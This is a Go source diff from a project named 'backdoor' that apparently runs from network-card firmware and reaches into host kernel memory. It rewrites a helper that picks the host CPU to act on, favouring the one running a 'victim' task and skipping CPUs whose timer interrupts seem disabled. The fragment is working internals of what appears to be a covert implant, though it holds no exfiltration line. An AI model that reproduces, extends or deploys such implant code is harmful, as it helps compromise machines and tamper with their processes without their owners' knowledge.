@@ -4,8 +4,9 @@ import (
 	"bytes"
 	"errors"
 	"fmt"
-	"slices"
+	"math"
 	"strings"
+	"time"
 
 	"github.com/backdoor-rhs/backdoor/agent/kernel"
 	"github.com/backdoor-rhs/backdoor/nicfw/hostmem"
@@ -125,35 +126,41 @@ func callable(m model, name string) (kernel.VirtAddr, Bytes, error) {
 }
 
 // pickCPU chooses the CPU that will tick soonest: the one on which the victim runs, for that one is surely busy; else any
-// other that is busy; else the idle one with the nearest timer event. stuck are CPUs that are known not to tick.
-func pickCPU(hb kernel.Heartbeat, victim *kernel.Task, stuck func(int) bool) (kernel.CPU, error) {
-	var cs []kernel.CPU
-	for _, c := range hb.CPUs {
-		if c.Online && !stuck(c.ID) {
-			cs = append(cs, c)
-		}
+// other that is busy; else the idle one with the nearest timer event. A CPU that is busy but does not tick within the time of
+// a few ticks is not asked: its interrupts are off.
+func pickCPU(m model, before kernel.Heartbeat, victim *kernel.Task) (kernel.CPU, error) {
+	time.Sleep(tickPatience)
+	hb, err := m.Heartbeat()
+	if err != nil {
+		return kernel.CPU{}, err
 	}
-	if len(cs) == 0 {
-		return kernel.CPU{}, fmt.Errorf("no CPU of the host is known to tick: %w", kernel.ErrNotFound)
+	if len(hb.CPUs) != len(before.CPUs) {
+		return kernel.CPU{}, fmt.Errorf("number of CPUs changed: %w", kernel.ErrTorn)
 	}
-	rank := func(c kernel.CPU) int64 {
+	best, at := int64(math.MaxInt64), -1
+	for i, c := range hb.CPUs {
+		rank := c.NextEvent
 		switch {
+		case !c.Online:
+			continue
+		case !c.Idle && c.TimerIRQs == before.CPUs[i].TimerIRQs:
+			continue
 		case !c.Idle && victim != nil && c.CurrPID == victim.PID:
-			return -2
+			rank = -2
 		case !c.Idle:
-			return -1
-		case c.NextEvent <= 0:
-			return 1<<63 - 1
+			rank = -1
+		case c.NextEvent <= 0 || c.NextEvent == math.MaxInt64:
+			rank = math.MaxInt64 - 1
 		}
-		return c.NextEvent
+		if rank < best {
+			best, at = rank, i
+		}
 	}
-	return slices.MinFunc(cs, func(a, b kernel.CPU) int {
-		switch x, y := rank(a), rank(b); {
-		case x < y:
-			return -1
-		case x > y:
-			return 1
-		}
-		return 0
-	}), nil
+	if at < 0 {
+		return kernel.CPU{}, fmt.Errorf("no CPU of the host ticks: %w", kernel.ErrNotFound)
+	}
+	return hb.CPUs[at], nil
 }
+
+// tickPatience is five ticks at the slowest usual rate of servers, HZ=250.
+const tickPatience = 20 * time.Millisecond
